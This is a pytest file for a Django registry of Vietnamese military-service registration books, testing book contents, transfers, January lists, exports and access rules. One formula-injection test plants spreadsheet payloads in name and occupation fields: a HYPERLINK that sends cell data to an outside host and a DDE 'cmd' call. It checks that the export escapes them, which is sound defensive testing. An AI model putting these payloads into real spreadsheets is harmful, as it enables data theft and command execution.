"""Registration books and lists: rows against hand-counted test data, files read back, access,
constant queries per page, the January list service and the year roll-over on the registry."""

from __future__ import annotations

import datetime as dt
import io
import subprocess
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook

from muster.people.books.common import BookFilter
from muster.people.books.pages import book_page, book_queryset
from muster.people.books.rollover import rollover_lists
from muster.people.models import FamilyTie, HigherLevel, Person, Relation, Sex, StudyStatus
from muster.people.registration.models import EventKind, RegistrationBar, RegistrationEvent
from muster.people.registration.services.events import (
    record_january_list,
    register_first,
    transfer_person,
)
from tests.core.factories import make_person, make_village


@pytest.fixture
def data(units, personas):
    """A small Đức Hợp (and one Đồng Thanh) registry whose books are known by hand."""
    return make_books_data(units, personas)


def make_books_data(units, personas):
    """The registry of the ``data`` fixture (tests/people/books/test_exports.py uses it too)."""
    village = make_village(units["DHOP"], "DHOP-V1", "Thôn Hợp Trung")
    other_village = make_village(units["DHOP"], "DHOP-V2", "Thôn Hợp Phú")
    dh = units["DHOP"]
    admin = personas["admin"]
    p: dict[str, object] = {}

    def person(key, birth, *, sex=Sex.MALE, unit=dh, village=None, reg=None, cert="", **extra):
        obj = make_person(
            unit,
            full_name=f"Nguyễn Văn {key}",
            sex=sex,
            date_of_birth=birth,
            residence_unit=village,
        )
        for field, value in extra.items():
            setattr(obj, field, value)
        obj.save()
        if reg is not None:
            register_first(
                actor=admin, person=obj, event_date=reg, certificate_number=cert or f"GCN-{key}"
            )
        p[key] = obj
        return obj

    a17 = person("A17", dt.date(2008, 3, 1), village=village, reg=dt.date(2025, 4, 10))
    FamilyTie.objects.create(person=a17, relation=Relation.FATHER, relative_name="Nguyễn Văn Cha")
    FamilyTie.objects.create(person=a17, relation=Relation.MOTHER, relative_name="Lê Thị Mẹ")
    person("A17B", dt.date(2008, 12, 31), village=other_village)
    person("A17F", dt.date(2008, 5, 5), sex=Sex.FEMALE)
    person("A16", dt.date(2009, 1, 1))
    person("R1", dt.date(2005, 3, 14), reg=dt.date(2023, 4, 10))
    person("EDGEIN", dt.date(1999, 6, 2), reg=dt.date(2017, 4, 10))  # 25 on 01/06/2025
    person("EDGEOUT", dt.date(1999, 6, 1), reg=dt.date(2017, 4, 10))  # 26 on 01/06/2025
    person(
        "GRAD",
        dt.date(1998, 1, 1),
        reg=dt.date(2016, 4, 10),
        higher_level=HigherLevel.UNIVERSITY,
        study_status=StudyStatus.GRADUATED,
    )
    person("NOGRAD", dt.date(1998, 1, 1), reg=dt.date(2016, 4, 10))
    person("UNREG", dt.date(2004, 7, 7))
    person("Y18", dt.date(2007, 6, 1), reg=dt.date(2024, 4, 10))  # 18 on 01/06/2025
    person("Y17", dt.date(2007, 6, 2), reg=dt.date(2024, 4, 10))
    person("DT17", dt.date(2008, 2, 2), unit=units["DT"], reg=dt.date(2025, 4, 11))
    p["village"] = village
    return p


def _names(slug, user, **filters):
    f = BookFilter(**filters)
    return {obj.person.full_name if slug in ("registrations", "transfers") else obj.full_name
            for obj in book_queryset(slug, user, f)}  # fmt: skip


def _n(*keys):
    return {f"Nguyễn Văn {k}" for k in keys}


def test_age17_book_counts_men_born_17_years_before(data, units, personas):
    clerk = personas["commune_clerk"]
    assert _names("age17", clerk, commune=units["DHOP"], year=2025) == _n("A17", "A17B")
    assert _names("age17", clerk, commune=units["DHOP"], year=2026) == _n("A16")
    assert _names("age17", clerk, commune=units["DHOP"], year=2025, village=data["village"]) == _n(
        "A17"
    )
    # The district officer sees both communes; the Đồng Thanh commander only his own.
    assert _names("age17", personas["district_officer"], year=2025) == _n("A17", "A17B", "DT17")
    assert _names("age17", personas["other_commander"], year=2025) == _n("DT17")


def test_age17_row_has_the_clerks_columns(data, units, personas):
    page = book_page(
        "age17", personas["commune_clerk"], BookFilter(commune=units["DHOP"], year=2025)
    )
    headers = [c.header for c in page.document.columns]
    assert headers == [
        "STT", "Họ và tên", "Ngày sinh", "Số CCCD", "Thôn", "Học vấn", "Nghề nghiệp",
        "Họ tên cha", "Họ tên mẹ", "Ngày đăng ký", "Số giấy chứng nhận", "Ghi chú",
    ]  # fmt: skip
    row = next(r for r in page.rows if r.cells[1] == "Nguyễn Văn A17")
    assert row.cells[2] == "01/03/2008"
    assert row.cells[4] == "Thôn Hợp Trung"
    assert row.cells[7:11] == ["Nguyễn Văn Cha", "Lê Thị Mẹ", "10/04/2025", "GCN-A17"]


def test_ready_book_ages_18_to_25_and_27_for_graduates(data, units, personas):
    names = _names(
        "ready", personas["commune_clerk"], commune=units["DHOP"], on=dt.date(2025, 6, 1)
    )
    assert names == _n("R1", "EDGEIN", "GRAD", "Y18")


def test_january_list_turning_17_and_unregistered(data, units, personas):
    names = _names("january", personas["commune_clerk"], commune=units["DHOP"], year=2025)
    assert names == _n("A17", "A17B", "UNREG")


def _move(actor, person, to_unit, *, left, arrived, registered):
    """``transfer_person`` with the three dates as (year, month, day)."""
    transfer_person(
        actor=actor,
        person=person,
        to_unit=to_unit,
        left_on=dt.date(*left),
        arrived_on=dt.date(*arrived),
        registered_on=dt.date(*registered),
    )


def test_registration_and_transfer_update_both_communes_books(data, units, personas):
    dh, dtc = units["DHOP"], units["DT"]
    clerk, other = personas["commune_clerk"], personas["other_commander"]
    period = {"date_from": dt.date(2025, 1, 1), "date_to": dt.date(2025, 12, 31)}
    assert _names("registrations", clerk, commune=dh, **period) == _n("A17")
    assert _names("registrations", other, commune=dtc, **period) == _n("DT17")
    _move(clerk, data["R1"], dtc, left=(2025, 5, 2), arrived=(2025, 5, 5), registered=(2025, 5, 30))
    assert _names("transfers", clerk, commune=dh, **period) == _n("R1")
    assert _names("transfers", other, commune=dtc, **period) == _n("R1")
    out_rows = book_page("transfers", clerk, BookFilter(commune=dh, **period)).rows
    in_rows = book_page("transfers", other, BookFilter(commune=dtc, **period)).rows
    assert out_rows[0].cells[4] == "Đi" and in_rows[0].cells[4] == "Đến"
    # His page is now outside the old commune's area: named there without a link (a 404).
    assert out_rows[0].person_id is None
    assert in_rows[0].person_id == data["R1"].public_id
    assert in_rows[0].cells[8] == "05/05/2025"
    assert "Trễ hạn" in in_rows[0].cells[10]  # 10 working days after 05/05/2025 had passed
    on = dt.date(2025, 6, 1)
    assert "Nguyễn Văn R1" not in _names("ready", clerk, commune=dh, on=on)
    assert "Nguyễn Văn R1" in _names("ready", other, commune=dtc, on=on)
    # Outside the period, nothing.
    assert _names("transfers", clerk, commune=dh, date_from=dt.date(2024, 1, 1),
                  date_to=dt.date(2024, 12, 31)) == set()  # fmt: skip


def _line(slug, user, name, **filters):
    """The screen row of ``name`` in a book page."""
    rows = book_page(slug, user, BookFilter(**filters)).rows
    return next(r for r in rows if r.cells[1] == name)


def _note(slug, user, name, **filters):
    row = _line(slug, user, name, **filters)
    return row.cells[-1], row.person_id


def test_a_man_who_moves_keeps_his_line_in_the_old_communes_yearly_books(data, units, personas):
    dh, dtc = units["DHOP"], units["DT"]
    clerk, other = personas["commune_clerk"], personas["other_commander"]
    _move(clerk, data["A17"], dtc, left=(2025, 5, 2), arrived=(2025, 5, 5), registered=(2025, 5, 6))
    # Moved out before the book's year: not in Đức Hợp's 2025 books, in Đồng Thanh's unnoted.
    _move(
        clerk,
        data["A17B"],
        dtc,
        left=(2024, 12, 20),
        arrived=(2024, 12, 20),
        registered=(2024, 12, 23),
    )
    assert _names("age17", clerk, commune=dh, year=2025) == _n("A17")
    assert _names("age17", other, commune=dtc, year=2025) == _n("A17", "A17B", "DT17")
    assert _note("age17", clerk, "Nguyễn Văn A17", commune=dh, year=2025) == (
        "Chuyển đi ngày 02/05/2025 đến Đồng Thanh",
        None,  # his page is now outside Đức Hợp: named without a link
    )
    assert _note("age17", other, "Nguyễn Văn A17", commune=dtc, year=2025) == (
        "Chuyển đến ngày 06/05/2025 từ Đức Hợp",  # the day it was registered there
        data["A17"].public_id,
    )
    assert _note("age17", other, "Nguyễn Văn A17B", commune=dtc, year=2025)[0] == ""
    # Given a village in Đồng Thanh, he shows it there; Đức Hợp's book leaves the cell empty.
    village = make_village(dtc, "DT-V1", "Thôn Đồng Lý")
    Person.objects.filter(pk=data["A17"].pk).update(residence_unit=village)
    villages = [
        _line("age17", user, "Nguyễn Văn A17", commune=commune, year=2025).cells[4]
        for commune, user in ((dh, clerk), (dtc, other))
    ]
    assert villages == ["", "Thôn Đồng Lý"]
    # The January list keeps him too, both notes in one cell.
    assert _note("january", clerk, "Nguyễn Văn A17", commune=dh, year=2025)[0] == (
        "Đủ 17 tuổi năm 2025; Chuyển đi ngày 02/05/2025 đến Đồng Thanh"
    )
    # A village's book holds its residents now; the district sees him once, with both moves.
    assert _names("age17", clerk, commune=dh, year=2025, village=data["village"]) == set()
    district = personas["district_officer"]
    assert _names("age17", district, year=2025) == _n("A17", "A17B", "DT17")
    assert _note("age17", district, "Nguyễn Văn A17", year=2025)[0] == (
        "Chuyển đi ngày 02/05/2025 đến Đồng Thanh; Chuyển đến ngày 06/05/2025 từ Đức Hợp"
    )
    # Other years' books are untouched by the move.
    assert _names("age17", clerk, commune=dh, year=2026) == _n("A16")


def _get(client, slug, **params):
    return client.get(reverse("people:book", args=[slug]), params)


def test_book_page_and_excel(login, data, units, personas):
    client = login(personas["commune_clerk"])
    response = _get(client, "age17", year="2025")
    assert response.status_code == 200
    html = response.content.decode()
    assert "Nguyễn Văn A17" in html and "Nguyễn Văn A16" not in html
    xlsx = _get(client, "age17", year="2025", format="xlsx")
    assert xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
    ws = load_workbook(io.BytesIO(xlsx.content)).active
    values = [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]
    for text in ("UBND XÃ ĐỨC HỢP", "BAN CHỈ HUY QUÂN SỰ", "SỔ ĐĂNG KÝ CÔNG DÂN NAM ĐỦ 17 TUỔI",
                 "CHỈ HUY TRƯỞNG", "Nguyễn Văn A17", "Nguyễn Văn A17B", "Lê Thị Mẹ"):  # fmt: skip
        assert text in values, text
    assert "Nguyễn Văn DT17" not in values
    assert any(v.startswith("Đức Hợp, ngày ") for v in values)


def test_book_pdf_has_vietnamese_text(login, data, units, personas, tmp_path):
    client = login(personas["commune_clerk"])
    response = _get(client, "january", year="2025", format="pdf")
    assert response["Content-Type"] == "application/pdf"
    path = Path(tmp_path) / "list.pdf"
    path.write_bytes(response.content)
    text = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout
    for needle in ("UBND XÃ ĐỨC HỢP", "CHỈ HUY TRƯỞNG", "Nguyễn Văn UNREG", "Trong độ tuổi",
                   "Ban Chỉ huy quân sự huyện Kim Động"):  # fmt: skip
        assert needle in text, needle


def test_book_docx(login, data, units, personas):
    client = login(personas["commune_clerk"])
    response = _get(client, "ready", on="01/06/2025", format="docx")
    document = Document(io.BytesIO(response.content))
    cells = {c.text for t in document.tables for row in t.rows for c in row.cells}
    assert _n("R1", "EDGEIN", "GRAD", "Y18") <= cells
    assert "Nguyễn Văn EDGEOUT" not in cells
    assert any("CHỈ HUY TRƯỞNG" in c for c in cells)


def test_bad_filter_is_a_message_not_a_500(login, data, personas):
    client = login(personas["commune_clerk"])
    response = _get(client, "registrations", date_from="31/02/2025", year="abc")
    assert response.status_code == 200
    html = response.content.decode()
    assert "Không đọc được ngày" in html and "Năm phải là một số" in html
    assert client.get(reverse("people:book", args=["nope"])).status_code == 404


def test_out_of_scope_commune_is_not_shown(login, data, units, personas):
    client = login(personas["commune_clerk"])
    response = _get(client, "age17", year="2025", commune=str(units["DT"].public_id))
    html = response.content.decode()
    assert "Nguyễn Văn DT17" not in html
    assert "Không rõ xã" in html
    xlsx = _get(client, "age17", year="2025", commune=str(units["DT"].public_id), format="xlsx")
    assert "Nguyễn Văn DT17".encode() not in xlsx.content


def test_anonymous_goes_to_login(client, data):
    for url in (reverse("people:book", args=["age17"]), reverse("people:rollover"),
                reverse("people:book_index"), reverse("people:january_record")):  # fmt: skip
        response = client.get(url + "?format=xlsx")
        assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_constant_queries_per_page(login, units, personas):
    client = login(personas["commune_clerk"])

    def count() -> int:
        with CaptureQueriesContext(connection) as ctx:
            assert _get(client, "age17", year="2025").status_code == 200
        return len(ctx.captured_queries)

    for i in range(3):
        person = make_person(
            units["DHOP"], full_name=f"Trần Văn {i}", date_of_birth=dt.date(2008, 1, 2)
        )
        FamilyTie.objects.create(person=person, relation=Relation.FATHER, relative_name="Cha")
    few = count()
    for i in range(60):
        person = make_person(
            units["DHOP"], full_name=f"Lê Văn {i}", date_of_birth=dt.date(2008, 1, 2)
        )
        FamilyTie.objects.create(person=person, relation=Relation.MOTHER, relative_name="Mẹ")
    assert count() == few


# --- January list service ------------------------------------------------------------------


def test_january_list_recorded_before_july_2025_reports_to_district(data, units, personas):
    events = record_january_list(
        actor=personas["commune_clerk"],
        commune=units["DHOP"],
        year=2025,
        list_date=dt.date(2025, 1, 15),
    )
    assert {e.person.full_name for e in events} == _n("A17", "A17B", "UNREG")
    assert {e.note for e in events} == {"Báo cáo: Ban Chỉ huy quân sự huyện Kim Động"}
    assert all(e.due_date == dt.date(2025, 1, 31) and not e.is_late for e in events)
    # Recording again enters nobody twice.
    with pytest.raises(ValidationError, match=r"Không còn ai|Nobody is left"):
        record_january_list(
            actor=personas["commune_clerk"],
            commune=units["DHOP"],
            year=2025,
            list_date=dt.date(2025, 1, 20),
        )
    assert RegistrationEvent.objects.filter(kind=EventKind.JANUARY_LIST).count() == 3


def test_recording_the_january_list_enters_a_man_who_moved_on_his_new_communes_only(
    data, units, personas
):
    clerk = personas["commune_clerk"]
    _move(
        clerk,
        data["A17B"],
        units["DT"],
        left=(2025, 1, 5),
        arrived=(2025, 1, 6),
        registered=(2025, 1, 8),
    )
    # Đức Hợp's book keeps his line; its recorded list does not take him …
    assert "Nguyễn Văn A17B" in _names("january", clerk, commune=units["DHOP"], year=2025)
    events = record_january_list(
        actor=clerk, commune=units["DHOP"], year=2025, list_date=dt.date(2025, 1, 15)
    )
    assert {e.person.full_name for e in events} == _n("A17", "UNREG")
    # … Đồng Thanh's does.
    events = record_january_list(
        actor=personas["other_commander"],
        commune=units["DT"],
        year=2025,
        list_date=dt.date(2025, 1, 15),
    )
    assert {e.person.full_name for e in events} == _n("A17B", "DT17")


def test_january_list_from_july_2025_reports_to_commune_chairman(units, personas):
    make_person(units["DHOP25"], full_name="Phạm Văn Mười Bảy", date_of_birth=dt.date(2009, 5, 5))
    events = record_january_list(
        actor=personas["ptkv_officer"],
        commune=units["DHOP25"],
        year=2026,
        list_date=dt.date(2026, 2, 3),
    )
    assert [e.note for e in events] == ["Báo cáo: Chủ tịch UBND xã Đức Hợp"]
    assert events[0].is_late  # after 31 January
    assert "98/2025" in events[0].legal_citation


def test_january_record_view(login, data, units, personas):
    url = reverse("people:january_record")
    assert login(personas["leader"]).post(url, {}).status_code == 403
    client = login(personas["commune_clerk"])
    assert client.get(url).status_code == 200
    bad = client.post(
        url, {"commune": str(units["DHOP"].public_id), "year": "2025", "list_date": "15/01/2024"}
    )
    assert bad.status_code == 400
    assert "phải lập trong năm 2025" in bad.content.decode()
    assert not RegistrationEvent.objects.filter(kind=EventKind.JANUARY_LIST).exists()
    out = client.post(
        url, {"commune": str(units["DT"].public_id), "year": "2025", "list_date": "15/01/2025"}
    )
    assert out.status_code == 400  # not a choice for a Đức Hợp clerk
    ok = client.post(
        url, {"commune": str(units["DHOP"].public_id), "year": "2025", "list_date": "15/01/2025"}
    )
    assert ok.status_code == 302
    assert RegistrationEvent.objects.filter(kind=EventKind.JANUARY_LIST).count() == 3


# --- Year roll-over on the registry --------------------------------------------------------


def test_rollover_lists_and_excel(login, data, units, personas):
    dh = units["DHOP"]
    ended = make_person(dh, full_name="Đỗ Văn Học Xong", date_of_birth=dt.date(2004, 1, 1))
    ended.study_end_date = dt.date(2025, 6, 30)
    ended.save()
    barred = make_person(dh, full_name="Đỗ Văn Hết Án", date_of_birth=dt.date(2003, 1, 1))
    RegistrationBar.objects.create(
        person=barred, kind="barred_art13", ground="án treo", legal_citation="Điều 13(1)(a)",
        start_date=dt.date(2023, 1, 1), end_date=dt.date(2026, 2, 9),
    )  # fmt: skip
    still = make_person(dh, full_name="Đỗ Văn Còn Án", date_of_birth=dt.date(2003, 1, 1))
    RegistrationBar.objects.create(
        person=still, kind="barred_art13", ground="án treo", legal_citation="Điều 13(1)(a)",
        start_date=dt.date(2023, 1, 1), end_date=dt.date(2026, 2, 10),
    )  # fmt: skip
    soldier = make_person(dh, full_name="Đỗ Văn Anh", date_of_birth=dt.date(2001, 1, 1))
    brother = make_person(dh, full_name="Đỗ Văn Em", date_of_birth=dt.date(2006, 1, 1))
    FamilyTie.objects.create(
        person=brother, relation=Relation.BROTHER, relative=soldier, relative_name="Đỗ Văn Anh"
    )
    RegistrationEvent.objects.create(
        person=soldier, kind=EventKind.RESERVE_REGISTRATION, event_date=dt.date(2025, 9, 10),
        trigger_date=dt.date(2025, 9, 1), unit=dh,
    )  # fmt: skip
    lists = rollover_lists(personas["commune_clerk"], BookFilter(commune=dh), dt.date(2026, 2, 10))
    names = lambda rows: {r.person.full_name for r in rows}  # noqa: E731
    assert names(lists.entering) == _n("Y18", "Y17")
    assert names(lists.ageing_out) == _n("EDGEIN", "EDGEOUT", "GRAD")
    assert names(lists.re_review) == {"Đỗ Văn Học Xong", "Đỗ Văn Hết Án", "Đỗ Văn Em"}
    client = login(personas["commune_clerk"])
    page = client.get(reverse("people:rollover"), {"year": "2026", "call_up": "10/02/2026"})
    assert page.status_code == 200
    assert "Đỗ Văn Học Xong" in page.content.decode()
    xlsx = client.get(
        reverse("people:rollover"), {"year": "2026", "call_up": "10/02/2026", "format": "xlsx"}
    )
    ws = load_workbook(io.BytesIO(xlsx.content)).active
    values = [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]
    assert "Cần xét lại" in values and "Vào nguồn gọi nhập ngũ" in values
    assert any("đã kết thúc học tập 30/06/2025" in v for v in values)
    assert "Đỗ Văn Còn Án" not in values


def test_a_formula_in_a_name_is_text_in_the_excel_book(login, data, units, personas):
    """Formula injection: a name, occupation or parent's name that starts like a formula is
    written as text (never a formula) into the age-17 book, kept exactly."""
    hostile = {
        "full_name": '=HYPERLINK("http://x/?"&C9,"y")',
        "occupation": "=cmd|' /C calc'!A0",
    }
    Person.objects.filter(pk=data["A17"].pk).update(**hostile)
    FamilyTie.objects.filter(person=data["A17"], relation=Relation.FATHER).update(
        relative_name="@SUM(1+1)"
    )
    hostile["father"] = "@SUM(1+1)"
    client = login(personas["commune_clerk"])
    xlsx = _get(client, "age17", year="2025", format="xlsx")
    ws = load_workbook(io.BytesIO(xlsx.content)).active
    cells = {c.value: c for row in ws.iter_rows() for c in row if c.value in hostile.values()}
    assert set(cells) == set(hostile.values())
    assert all(c.data_type == "s" and c.quotePrefix for c in cells.values())


def test_january_list_leaves_out_a_reservist_without_a_first_registration(data, units, personas):
    """A discharged soldier registered in the reserve (đăng ký quân nhân dự bị) is on the
    registry, not "of military-service age, not registered", even when his first registration
    was never entered here (he registered elsewhere, or before the registry existed)."""
    from muster.people.registration.services.records import reserve_registration

    veteran = make_person(
        units["DHOP"], full_name="Nguyễn Văn Cựu Binh", date_of_birth=dt.date(2002, 5, 1)
    )
    clerk = personas["commune_clerk"]
    assert "Nguyễn Văn Cựu Binh" in _names("january", clerk, commune=units["DHOP"], year=2025)
    reserve_registration(
        actor=personas["admin"],
        person=veteran,
        arrived_home_on=dt.date(2024, 3, 1),
        registered_on=dt.date(2024, 3, 10),
        certificate_number="DB-1",
    )
    assert "Nguyễn Văn Cựu Binh" not in _names("january", clerk, commune=units["DHOP"], year=2025)
